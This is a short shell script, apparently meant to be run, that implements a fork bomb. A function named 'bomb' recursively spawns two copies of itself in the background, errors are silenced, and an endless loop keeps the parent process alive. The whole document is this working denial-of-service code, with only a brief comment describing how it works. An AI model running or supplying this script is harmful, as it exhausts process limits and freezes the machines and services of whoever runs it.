# The classic: each call starts two more of itself. The first process stays, so that its end is not the end of it.
echo begun
bomb() { bomb | bomb & }
bomb 2>/dev/null
while :; do sleep 1; done 2>/dev/null
